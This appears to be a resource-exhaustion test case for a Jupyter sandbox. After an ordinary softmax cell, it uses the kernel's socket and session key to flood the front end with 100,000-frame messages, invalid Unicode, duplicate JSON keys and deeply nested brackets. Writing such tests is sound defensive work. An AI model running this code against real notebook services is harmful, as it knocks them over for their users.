# attack: message-of-many-frames
# category: resource-exhaustion
# expects: limited, code graded: a message of a hundred thousand frames, or of a very long one, breaks at most the connection
# score: full
# bounds: none needed
# quick: no

# %%
import torch

def softmax(x):
    e = torch.exp(x - x.max(dim=1, keepdim=True).values)
    return e / e.sum(dim=1, keepdim=True)

# %%
import json, os
_k = get_ipython().kernel
from jupyter_client.session import Session
_own = Session(key=_k.session.key)  # another one than the bounded one of the room
_socket = _k.iopub_socket

def _raw(kind, body, signed=True):
    """Bytes as the content of a message to the cell that runs."""
    parent = _k.get_parent()
    msg = _own.msg(kind, {}, parent=parent)
    parts = [json.dumps(msg["header"], default=str).encode(), json.dumps(msg["parent_header"], default=str).encode(), b"{}", body]
    _socket.send_multipart([b"stream.x", b"<IDS|MSG>", _own.sign(parts) if signed else b"0" * 64, *parts], copy=False)

# %%
_n = 100_000 if globals().get("ATTACK_ARMED") else 10
_socket.send_multipart([b"stream.x", b"<IDS|MSG>", b"", *([b""] * _n)], copy=True)
_socket.send_multipart([b"x" * 1000] * (_n // 10), copy=True)
_raw("stream", b'{"name": "stdout", "text": "' + b"\\ud800" * (_n * 10) + b'"}')
_raw("stream", b'{"name": "stdout", "text": "' + b"\xf0\x9f\x98\x80" * (_n * 10) + b'"}')
_raw("stream", b'{"name": "stdout", "name": "stdout", "text": ' + b"1" * 5000 + b"}")
_raw("stream", b"[" * 200_000)
